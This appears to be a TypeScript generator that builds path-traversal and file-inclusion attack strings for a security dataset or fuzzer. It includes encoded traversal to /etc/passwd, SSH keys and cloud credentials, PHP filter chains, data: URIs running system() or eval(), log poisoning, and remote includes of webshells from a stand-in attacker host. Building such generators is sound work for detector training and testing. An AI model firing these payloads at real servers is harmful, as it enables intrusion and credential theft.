import {
  altered,
  family,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  repeat,
  text,
  type Part,
  type Write,
  words,
  write
} from '../template.ts';
import {
  ALPHANUMERIC,
  attackerHost,
  attackerUrl,
  base64,
  inventedWord,
  LOWER,
  lowerWord
} from '../vocabulary/shared.ts';
import { applicationFile, unixFile, webRoot, windowsFile } from '../vocabulary/systems.ts';

/** Lists that scanners fill in are also sent unfilled. */
const anyFile = mostly(
  [unixFile, 6],
  [windowsFile, 3],
  [applicationFile, 1.2],
  [words('{file} {FILE} [FILE] {{file}} %FILE%'), 0.3]
);
const extension = mostly(
  ['', 6],
  ['%00', 0.8],
  ['\u0000', 0.4],
  [text`%00.${words('jpg png html php pdf txt')}`, 0.7],
  [text`\u0000.${words('jpg png html php pdf txt')}`, 0.3],
  ['%2500', 0.1],
  ['%2500.html', 0.1],
  [text`.${words('jpg png html php')}`, 0.2],
  ['?', 0.2],
  ['#', 0.1],
  [';', 0.1],
  ['/.', 0.1],
  ['%0a', 0.1],
  ['%23', 0.1],
  ['\\0', 0.1],
  ['.%00', 0.1],
  [text`${repeat('/.', 4, 40)}`, 0.1],
  [text`?.${words('jpg php')}`, 0.1]
);
const start = mostly(
  ['', 8],
  ['/', 3],
  [text`/${lowerWord}/`, 1.2],
  [text`${lowerWord}/`, 0.7],
  ['./', 0.3],
  ['.', 0.2],
  [text`/${words('images static files download assets uploads css js img public cgi-bin icons scripts')}/`, 1.5],
  [text`${webRoot}/`, 0.5],
  [text`${words('file page path template doc include lang')}=`, 0.5],
  ['\\', 0.3],
  ['//', 0.2],
  ['c:', 0.1],
  [text`${lowerWord}.${words('php jpg txt pdf html')}/`, 0.3],
  [text`${integer(1, 999)}/`, 0.2]
);

/** The same climb over and over, then a file whose own slashes may follow the climb's style. */
function climbing(step: Part, separator: string, file: Part, steps: Part = integer(1, 12)): Write {
  return (rng) => {
    const climb = write(rng, step).repeat(Number(write(rng, steps)));
    const target = write(rng, file);
    return (
      write(rng, start) + climb + (rng.chance(0.7) ? target.replaceAll('/', separator) : target) + write(rng, extension)
    );
  };
}

/** Encodings of a dot and of a slash that some decoder folds back, by what is odd about them. */
const DISGUISES = {
  percent: { dots: ['%2e'], slashes: ['%2f', '%5c'] },
  'percent-twice': {
    dots: ['%252e', '%25%32%65', '%%32%65', '%%32%%65', '%32%65'],
    slashes: ['%252f', '%255c', '%25%35%63', '%%32%66', '%%35%63', '%%35c']
  },
  'sixteen-bits': {
    dots: ['%u002e', '%uff0e', '%u2024', '\\u002e', '\\x2e'],
    slashes: ['%u2215', '%u2216', '%uefc8', '%uf025', '%uff0f', '%u002f', '\\u002f', '\\x2f', '%u005c']
  },
  'overlong-two': {
    dots: ['%c0%ae', '%c0ae', '%25c0%25ae', '%c0%2e'],
    slashes: ['%c0%af', '%c1%9c', '%c0%2f', '%c0%5c', '%c1%af', '%25c0%25af', '%25c1%259c']
  },
  'overlong-more': {
    dots: ['%e0%80%ae', '%f0%80%80%ae', '%f8%80%80%80%ae', '%fc%80%80%80%80%ae', '%e0%40%ae'],
    slashes: ['%e0%80%af', '%f0%80%80%af', '%f8%80%80%80%af', '%fc%80%80%80%80%af', '%e0%40%af']
  },
  'overlong-wrong': {
    dots: ['%c0%5e', '%c0%ee', '%c0%fe', '%c0%6e', '%c0.'],
    slashes: ['%c0%9v', '%c0%qf', '%c1%8s', '%c1%1c', '%c1%pc', '%bg%qf', '%af', '%fe']
  },
  hexadecimal: { dots: ['0x2e'], slashes: ['0x2f', '0x5c'] },
  replaced: {
    dots: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd.'],
    slashes: ['\ufffd', '\ufffd\ufffd', '?', '\ufffd?', '\ufffds', '\ufffdv']
  },
  'look-alike': {
    dots: ['\uff0e', '\u2024', '\u3002', '&#46;'],
    slashes: ['\uff0f', '\u2215', '\u2216', '\uff3c', '&#47;']
  },
  question: { dots: ['?', '??'], slashes: ['%c0%9v', '%c0%qf', '%c1%8s', '%c1%pc', '%c0%5c', '%c0%af', '%uefc8'] },
  'null-bytes': { dots: ['.%00', '%00.', '.\u0000'], slashes: ['/', '\\', '%00/', '%2f', '%c0%af'] }
} as const;
type Disguise = (typeof DISGUISES)[keyof typeof DISGUISES];

/** Climbs whose dots, slashes, or both wear a disguise. */
function disguised(dotted: Disguise | null, slashed: Disguise | null): Write {
  return (rng) => {
    const dot = dotted === null ? '.' : rng.pick<string>(dotted.dots);
    const otherDot = rng.chance(0.85) ? dot : '.';
    const slash = slashed === null ? rng.pick(['/', '/', '\\']) : rng.pick<string>(slashed.slashes);
    const file = write(rng, anyFile);
    const climb = (dot + otherDot + slash).repeat(rng.int(1, 12));
    return write(rng, start) + climb + (rng.chance(0.6) ? file.replaceAll('/', slash) : file) + write(rng, extension);
  };
}
export const disguisedTemplates = Object.entries(DISGUISES).flatMap(([name, disguise]) =>
  family('path-traversal/disguised', {
    [`${name}-both`]: disguised(disguise, disguise),
    [`${name}-slashes`]: disguised(null, disguise),
    [`${name}-dots`]: disguised(disguise, null),
    [`${name}-mixed`]: (rng) => disguised(disguise, rng.pick(Object.values(DISGUISES)))(rng)
  })
);

const nestedStep = words(
  '....// ....\\\\ ..././ ...\\.\\ .././ ..../ ....\\/ ..//./ ...// ..//..// .../ .....///// ..;/ ..;\\ ..\\;/ ....;/ ..;a=b/ .;/../ ..\\/ ..//  ..\\\\ .//..// ./../ .\\..\\ ..//./ ..|/ ..+/ .?/ .*/.*/ ...%2f/ ..%00/ ..%0d/ ..%5c/ ..%ff/ ..%01/ ..^/ ..~/ .%5c../ /%5c../ ..%2f./ ..\\./ /../ \\../ \\..\\ //..// \\\\..\\\\ ..../\\ ../\\ ..\\\\\\ ..///'
);
const wrapped = mostly(
  [text`/${unixFile}`, 6],
  [text`${words('c: C: d:')}${oneOf('/', '\\')}${windowsFile}`, 2],
  [applicationFile, 2],
  [text`../../${applicationFile}`, 1],
  ['index', 1],
  ['index.php', 1],
  [text`../${lowerWord}`, 1],
  [lowerWord, 0.5]
);

export const climbTemplates = family('path-traversal/climb', {
  unix: climbing('../', '/', unixFile),
  'unix-passwd': text`${start}${altered(integer(1, 16), (count) => '../'.repeat(Number(count)))}etc/passwd${extension}`,
  'unix-short': text`${oneOf('', '/', './', lowerWord, text`/${lowerWord}/`)}${altered(integer(1, 4), (count) => '../'.repeat(Number(count)))}${mostly([unixFile, 2], [applicationFile, 4], [text`${lowerWord}/${lowerWord}.${words('php conf ini key db log txt')}`, 1])}${extension}`,
  'unix-long': climbing('../', '/', anyFile, integer(12, 60)),
  'windows-slash': climbing('../', '/', windowsFile),
  'windows-backslash': climbing('..\\', '\\', windowsFile),
  'backslash-unix': climbing('..\\', '\\', unixFile),
  'mixed-slashes': text`${start}${repeat(words('../ ..\\ ..\\/ ..// ..\\\\ ../'), 2, 10)}${anyFile}${extension}`,
  'only-climbs': text`${start}${repeat('../', 2, 24)}${maybe('..')}`,
  'only-climbs-backslash': text`${start}${repeat('..\\', 2, 24)}${maybe('..')}`,
  'same-place-steps': text`${start}${repeat(oneOf('./', '.\\', '/./', '\\.\\', './../', './/', '/.\\'), 3, 60)}${maybe(repeat('../', 1, 9))}${maybe(anyFile, 0.7)}`,
  'application-file': climbing(words('../ ..\\ ..;/ ....// ..%2f ..%5c'), '/', applicationFile, integer(1, 6)),
  nested: climbing(nestedStep, '/', anyFile),
  'nested-many-kinds': text`${start}${repeat(nestedStep, 2, 8)}${anyFile}${extension}`,
  'slash-first': text`${altered(integer(1, 12), (count) => '/..'.repeat(Number(count)))}/${anyFile}${extension}`,
  'backslash-first': text`${altered(integer(1, 12), (count) => '\\..'.repeat(Number(count)))}\\${altered(anyFile, (file) => file.replaceAll('/', '\\'))}${extension}`,
  'double-dots-only-url': text`/${lowerWord}/..${repeat(oneOf('/..', '%2f..', ';/..', '\\..'), 2, 9)}/${oneOf(anyFile, text`${words('admin manager console internal actuator')}/${lowerWord}`)}`,
  'proxy-confusion': text`/${lowerWord}${oneOf('/..;/', '/;/', '..;/', '/.;/', '/..%2f', '/..%5c', '/%2e%2e/', '/..//', ';/../')}${oneOf(text`${words('admin manager/html console host-manager actuator/env jmx-console server-status')}`, text`..;/${words('manager/html admin actuator/env')}`, applicationFile)}`,
  'after-real-file': text`${lowerWord}.${words('jpg png pdf txt php html')}/${repeat('../', 2, 9)}${anyFile}`,
  'after-parameter': text`${words('file=. page=. doc=. include=. path= /?f=')}${repeat(words('./ ../ ..\\ ./../'), 2, 9)}${anyFile}${extension}`,
  'in-a-name': text`${oneOf(text`${repeat('../', 1, 6)}${lowerWord}.${words('php jsp aspx sh py cgi phtml war exe')}`, text`${repeat('..\\', 1, 6)}${lowerWord}.${words('aspx asp bat exe')}`, text`${repeat('../', 2, 6)}${words('tmp var/www/html home/user/.ssh etc/cron.d')}/${lowerWord}`)}`,
  'long-prefix': text`${start}${altered(letters(LOWER), (letter, rng) => letter.repeat(rng.int(20, 1_100)))}${oneOf('/', '\\', '')}${repeat('../', 1, 20)}${anyFile}${extension}`,
  'long-suffix': text`${repeat('../', 2, 12)}${anyFile}${altered(oneOf('/.', './', '/', '.', 'a', '%20', '?', '\\.'), (piece, rng) => piece.repeat(rng.int(20, 400)))}`,
  'unusual-count-of-dots': text`${start}${repeat(oneOf('.../', '..../', '...\\', '.\\..\\', '....\\'), 1, 9)}${anyFile}${extension}`,
  'only-system-file': text`${oneOf('/', '\\', '', './', '../')}${words('etc/passwd etc/shadow boot.ini windows/win.ini windows/system32/drivers/etc/hosts etc/issue winnt/win.ini proc/self/environ etc/group')}${extension}`,
  'archive-entry': text`${lowerWord}/${repeat('../', 2, 10)}${oneOf(text`root/.ssh/authorized_keys`, unixFile, text`var/spool/cron/${lowerWord}`)}`
});

const absolutePrefix = oneOf('/', '/', '/', '//', '///', '/./', '\\', '\\\\', 'file:///', '/%2e/', '/..');
const server = text`${words('access error access_log error_log messages wtmp btmp lastlog my httpd php vsftpd pure-ftpd proftpd nginx shadow passwd syslog auth mysqld user db')}${oneOf('.log', '.conf', '.cnf', '.ini', '', '.log.1', '.0', '.old')}`;
export const absoluteTemplates = family('path-traversal/absolute', {
  unix: text`${absolutePrefix}${unixFile}${extension}`,
  'unix-extra-slashes': altered(text`/${unixFile}${extension}`, (path, rng) =>
    path.replaceAll('/', () => rng.pick(['/', '//', '/./', '///', '/.//']))
  ),
  'unix-circuit': text`/${words('etc var usr proc')}/${lowerWord}/../${oneOf('passwd', 'shadow', '../etc/passwd', '../proc/self/environ')}${extension}`,
  'windows-drive': altered(text`${words('c d C')}:/${windowsFile}`, (path, rng) =>
    rng.chance(0.6) ? path.replaceAll('/', rng.pick(['\\', '\\\\', '/'])) : path
  ),
  'windows-variable': altered(
    text`%${words('SYSTEMROOT WINDIR SYSTEMDRIVE USERPROFILE APPDATA')}%/${windowsFile}`,
    (path, rng) => path.replaceAll('/', rng.pick(['\\', '/']))
  ),
  unc: text`\\\\${oneOf(attackerHost, '127.0.0.1', 'localhost', '.', '?')}\\${oneOf('c$\\', 'admin$\\', 'share\\', 'c:\\', 'UNC\\')}${altered(windowsFile, (path) => path.replaceAll('/', '\\'))}`,
  'file-url': text`file:${words('/// // / ///// ////')}${oneOf(unixFile, text`c:/${windowsFile}`, text`localhost/${unixFile}`, text`c|/${windowsFile}`, text`${attackerHost}/${lowerWord}`)}`,
  'application-absolute': text`/${maybe(text`${lowerWord}/`)}${oneOf('WEB-INF/web.xml', 'META-INF/context.xml', 'WEB-INF/classes/db.properties', text`..;/WEB-INF/web.xml`, text`static/..%2f${applicationFile}`, text`.//WEB-INF/web.xml`, text`%57EB-INF/web.xml`)}${extension}`,
  'server-logs': text`/${oneOf('var/log/', 'var/adm/', 'usr/local/', 'opt/', 'etc/', 'var/www/', 'usr/', 'home/', 'var/lib/', 'var/', 'logs/')}${oneOf(text`${words('apache apache2 apache-ssl httpd nginx lighttpd mysql postgresql tomcat pure-ftpd proftpd vsftpd exim squid samba php lampp cpanel lp sendmail')}/${words('logs log conf etc errors data')}/${server}`, text`${words('apache apache2 apache-ssl httpd nginx mysql php exim pure-ftpd')}/${server}`, server)}${extension}`,
  'server-folders': altered(
    text`${oneOf('c:/', 'd:/', '/')}${words('xampp wamp inetpub winnt windows apache php mysql program␣files')}/${words('logs conf bin data htdocs temp apache/logs mysql/data system32 repair')}/${oneOf(server, words('access_log sam php.ini my.ini httpd.conf hosts system.ini'))}`,
    (path, rng) => (rng.chance(0.6) ? path.replaceAll('/', '\\') : path)
  ),
  'system-tools': text`/${words('usr/bin usr/sbin bin sbin usr/lib usr/local/bin')}/${words('id passwd crontab sudo su ssh chsh mount iptables')}${extension}`,
  wildcards: text`/${words('e?c/p?sswd e*c/p*d ???/passwd etc/pass?? e[t]c/p[a]sswd etc/{passwd,shadow} etc//passwd etc/./passwd //etc//passwd etc/passwd?a=b etc/passwd/. private/etc/passwd etc/passwd&')}${maybe(text`${words('# ; & ? ')}${lowerWord}`)}`,
  'home-tilde': text`${oneOf('/', '//', '../')}~${mostly([words('root admin www-data'), 2], [inventedWord, 1])}/.${words('ssh/id_rsa bash_history aws/credentials netrc mysql_history')}${extension}`
});

const filter = oneOf(
  'convert.base64-encode',
  'string.rot13',
  'convert.iconv.utf-8.utf-16',
  'read=convert.base64-encode',
  'read=string.toupper|string.rot13',
  'zlib.deflate/convert.base64-encode',
  'convert.quoted-printable-encode',
  text`convert.iconv.${letters(ALPHANUMERIC, 4, 8)}.${letters(ALPHANUMERIC, 4, 8)}`,
  'write=convert.base64-decode',
  text`${repeat(text`convert.iconv.${words('UTF8 L1 CP1256 ISO2022KR UTF16 IBM869 CSIBM1161 SE2 8859_3 UCS2 L4')}.${words('UTF8 UTF7 CSISO2022KR UCS-2 UTF16LE MS936 UTF-32 SJIS ISO-IR-156 UTF-16BE')}`, 2, 12, '|')}|convert.base64-decode`
);
const dataType = oneOf(
  '//text/plain',
  'text/plain',
  '//text/html',
  'text/html',
  '',
  'application/x-httpd-php',
  '//text/plain;charset=utf-8'
);
const phpCall = text`${words('system eval passthru exec phpinfo shell_exec assert print')}(${oneOf('', "'id'", '$_GET[0]', "$_REQUEST['c']", "$_GET['cmd']", "'ls -la'")});`;
export const wrapperTemplates = family('path-traversal/wrapper', {
  'php-filter': text`${words('php PHP pHp Php')}://filter/${filter}/resource=${wrapped}${extension}`,
  'filter-names': repeat(filter, 1, 6, oneOf('|', '/', '|')),
  'php-filter-chain': text`php://filter/${repeat(filter, 2, 5, '|')}/resource=${oneOf(wrapped, 'php://temp', 'data://,a')}`,
  'php-filter-fragment': text`${maybe('php://filter/')}${words('read write')}=${filter}/resource=${wrapped}`,
  'php-input': text`${maybe(text`${words('page file include')}=`)}${words('php PHP')}://${words('input stdin fd/0 memory temp output')}${maybe(oneOf('%00', '?', text`&${words('cmd c x')}=${words('id ls whoami pwd uname')}`))}`,
  data: text`data:${dataType},${oneOf('', ' ')}<?${oneOf('php ', '=', 'php\n')}${phpCall}${maybe(' ?>')}`,
  'data-base64': text`data:${dataType};base64,${altered(text`<?php ${phpCall} ?>`, base64)}`,
  'data-short-tag': text`data:${dataType},<?=\`${words('id ls whoami pwd uname')}${maybe(' -la')}\`?>`,
  'data-in-parameter': text`${words('file page include template')}=data:${dataType},<?php ${phpCall}?>`,
  expect: text`${oneOf('', 'php:', '/')}expect://${words('id ls whoami uname pwd cat ps env hostname ifconfig')}${maybe(text`${oneOf('%20', '+', ' ', '${IFS}')}${words('-la /etc -a aux /etc/passwd')}`)}${maybe(words('%00 ? #'), 0.2)}`,
  archives: text`${words('zip phar rar compress.zlib compress.bzip2 glob ogg ssh2.exec jar')}://${maybe('../')}${oneOf(text`${lowerWord}.${words('jpg zip phar png gz')}${maybe(text`${words('# %23 / !/')}${lowerWord}.php`)}`, text`/${unixFile}`, text`${attackerUrl}!/${lowerWord}`, text`/var/www/uploads/${lowerWord}.jpg/${lowerWord}.php`)}`,
  'log-poisoning': text`${repeat('../', 0, 9)}${oneOf('/', '')}${oneOf('var/log/apache2/access.log', 'var/log/nginx/access.log', 'proc/self/environ', 'var/log/auth.log', 'proc/self/fd/2', 'var/lib/php/sessions/sess_x', 'var/log/httpd/error_log', 'var/mail/www-data')}&${words('cmd c exec x')}=${words('id ls whoami pwd')}`,
  'remote-include': text`${oneOf('http://', 'https://', 'ftp://', 'HTTP://', 'hTtP://', '\\\\', '//')}${attackerHost}/${lowerWord}.${words('txt php gif jpg log inc')}${oneOf('?', '%00', '??', '?cmd=id', '%3f', '#', '?/', '?&', '\u0000', text`?${words('cmd c')}=${words('ls id pwd')}`)}`,
  'remote-shell-name': text`${oneOf('http', 'ftp', 'https')}://${attackerHost}/${words('shell cmd r57 c99 evil backdoor webshell r0x id pwn exploit')}.${words('txt php gif jpg asp')}${maybe(oneOf('?', '%00', '?cmd=id'))}`,
  'wrapper-with-climb': text`${words('file php zip phar')}://${oneOf('', 'filter/resource=')}${repeat('../', 2, 9)}${anyFile}`,
  'null-byte-session': text`${repeat('../', 2, 9)}${oneOf('tmp', 'var/tmp', 'var/lib/php5')}/sess_${letters(LOWER + '0123456789', 20, 32)}${extension}`,
  'java-protocols': text`${oneOf('netdoc', 'jar:file', 'classpath', 'file', 'gopher', 'url:file', 'local_file', 'resource')}:${oneOf('//', '///', '/', '')}${unixFile}${maybe('!/')}`,
  placeholder: text`${start}${altered(integer(2, 12), (count) => '../'.repeat(Number(count)))}${words('{FILE} {file} [file] <file> FUZZ')}${extension}`
});
